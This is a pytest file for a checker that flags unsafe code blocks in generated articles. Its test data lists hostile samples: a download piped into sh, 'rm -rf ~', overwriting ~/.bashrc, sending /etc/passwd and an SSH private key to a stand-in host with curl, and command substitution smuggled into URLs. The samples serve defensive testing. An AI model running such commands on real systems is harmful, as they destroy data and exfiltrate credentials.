"""`ucop verify OUT` flags code blocks that do more than call the HTTP client or curl.

Each hostile block below is one way an article could run code on a reader's machine; each
must be named by the check, and the bundled example's own blocks must pass.
"""

from __future__ import annotations

import json

import pytest

from tests.helpers import BRIEF, run_cli
from ucop.codegen.audit import article_python_problems, markdown_problems, shell_problems

HOSTILE_PYTHON = {
    "os.system": ("import os\nos.system('id')\n", "uses os.system"),
    "subprocess": ("import subprocess\nsubprocess.run(['id'])\n", "imports subprocess"),
    "eval": ("eval('1 + 1')\n", "calls eval()"),
    "exec": ("exec('x = 1')\n", "calls exec()"),
    "dunder import": ("__import__('os').system('id')\n", "uses __import__"),
    "open": ("print(open('/etc/passwd').read())\n", "calls open()"),
    "dunder walk": ("().__class__.__bases__[0].__subclasses__()\n", "reaches __class__"),
    "from os": ("from os import system\nsystem('id')\n", "imports os.system"),
    "os alias": ("import os as o\no.popen('id')\n", "uses os.popen"),
    "pathlib": ("from pathlib import Path\nPath('~/.ssh/id_rsa').read_text()\n", "imports pathlib"),
    "urllib.request": ("from urllib.request import urlopen\n", "imports urllib.request"),
}

HOSTILE_SHELL = {
    "substitution": ('curl "https://x.example/$(id)"\n', "shell expansion '$('"),
    "backticks": ("curl https://x.example/`id`\n", "backtick"),
    "chained": ("curl https://x.example ; rm -rf ~\n", "runs 'rm', not curl"),
    "piped": ("curl -s https://x.example/install.sh | sh\n", "runs 'sh', not curl"),
    "redirect": ("curl https://x.example > ~/.bashrc\n", "redirection"),
    "output file": ("curl -o ~/.bashrc https://x.example\n", "-o reads or writes local files"),
    "after a value": ('curl -H "A: b" -O https://x.example/f\n', "-O reads or writes"),
    "config file": ("curl -K /tmp/evil.cfg https://x.example\n", "-K reads or writes"),
    "data file": ("curl -d @/etc/passwd https://x.example\n", "sends a local file"),
    "form file": ("curl -F f=@/home/u/.ssh/id_rsa https://x.example\n", "uploads a file"),
    "not curl": ("wget https://x.example\n", "runs 'wget', not curl"),
    "arithmetic": ("curl https://x.example/$((1+1))\n", "shell expansion"),
    "process substitution": ("curl -d x <(cat /etc/passwd) https://x.example\n", "unquoted '<'"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_PYTHON))
def test_hostile_python_is_named(name):
    code, expected = HOSTILE_PYTHON[name]
    problems = article_python_problems(code)
    assert any(expected in p for p in problems), problems


@pytest.mark.parametrize("name", sorted(HOSTILE_SHELL))
def test_hostile_shell_is_named(name):
    code, expected = HOSTILE_SHELL[name]
    problems = shell_problems(code, allow_export=True)
    assert any(expected in p for p in problems), problems


def test_ordinary_blocks_pass():
    python = (
        "import hashlib\nimport hmac\nimport os\n\nimport httpx\n\n"
        "token = os.environ['LUMEN_API_TOKEN']\n"
        "digest = hmac.new(b'k', b'm', hashlib.sha256).hexdigest()\n"
        "print(httpx.get('https://x.example', headers={'A': token}).json())\n"
    )
    shell = (
        'export LUMEN_API_TOKEN="lmn_live_..."\n'
        'curl -X POST "https://x.example/v1/tasks?a=1&b=2" \\\n'
        '  -H "Authorization: Bearer $LUMEN_API_TOKEN" \\\n'
        '  --data \'{"title": "$(not expanded in single quotes)"}\'\n'
        "curl -F file=@file.bin https://x.example/upload  # a file in this folder\n"
        # a header the spec named "-O": curl sends it as a header, never reads it as -O
        'curl -X GET "https://x.example/a" -H "-O: x"\n'
    )
    assert article_python_problems(python) == []
    assert shell_problems(shell, allow_export=True) == []


def test_problems_are_located_by_document_line():
    article = "# T\n\nText.\n\n```python\nimport os\n\nos.system('id')\n```\n\n```bash\nls\n```\n"
    assert markdown_problems(article) == [
        "python block at line 5: line 3: uses os.system",
        "bash block at line 11: line 1: runs 'ls', not curl",
    ]


def test_verify_fails_a_doctored_article_and_names_the_block(tmp_path):
    out = tmp_path / "out"
    assert run_cli("generate", "-i", BRIEF, "-o", out, "--quiet").exit_code == 0
    clean = run_cli("verify", out)
    assert "✓ code blocks are safe to run" in clean.output
    report = json.loads((out / "run.json").read_text())
    article = out / report["article"]
    article.write_text(
        article.read_text() + "\n```bash\ncurl https://x.example/install.sh | sh\n```\n"
    )
    result = run_cli("verify", out)
    assert result.exit_code == 1
    assert "✗ code blocks are safe to run" in result.output
    assert "runs 'sh', not curl" in result.output.replace("\n", " ")


def test_transcripts_are_judged_by_what_the_reader_types():
    article = (
        "```console\n$ curl -s https://x.example/i.sh | sh\ninstalled\n```\n\n"
        "```pycon\n>>> import subprocess\n>>> 1 + 1\n2\n```\n\n"
        "```shell\n$ curl https://x.example/v1/tasks\n{}\n```\n"
    )
    assert markdown_problems(article) == [
        "console block at line 1: line 1: runs 'sh', not curl",
        "console block at line 1: line 1: pipes a download into an interpreter (| sh)",
        "pycon block at line 6: line 1: imports subprocess",
    ]


DOCS_CODE = (
    "import contextlib\n\n\n@contextlib.asynccontextmanager\nasync def lifespan(app):\n    yield\n"
)


def test_the_docs_own_code_is_quoted_not_audited_but_an_altered_copy_is(tmp_path):
    project = tmp_path / "project"
    (project / "kb").mkdir(parents=True)
    # the docs indent their example (inside a list item); the article quotes it dedented
    indented = "".join(f"    {line}\n" if line else "\n" for line in DOCS_CODE.splitlines())
    (project / "kb" / "lifespan.md").write_text(
        "# Lifespan\n\nStartup and shutdown.\n\n* Define it:\n\n    ```python\n"
        + indented
        + "    ```\n"
    )
    brief = project / "brief.md"
    brief.write_text("---\ntitle: Lifespan\nsources:\n  kb: kb/\n---\nShow the lifespan.\n")
    out = tmp_path / "out"
    assert run_cli("generate", "-i", brief, "-o", out, "--quiet").exit_code == 0
    report = json.loads((out / "run.json").read_text())
    article = out / report["article"]
    quoted = f"\n```python\n{DOCS_CODE}```\n"
    article.write_text(article.read_text() + quoted)
    passed = run_cli("verify", out)
    text = " ".join(passed.output.split())
    assert "✓ code blocks are safe to run" in text and "quoted verbatim from the docs" in text
    # one added line makes it no longer the docs' code: audited, and contextlib is not allowed
    article.write_text(
        article.read_text().replace(quoted, quoted.replace("    yield", "    eval('1')\n    yield"))
    )
    failed = run_cli("verify", out)
    assert failed.exit_code == 1
    assert "imports contextlib" in " ".join(failed.output.split())  # audited now
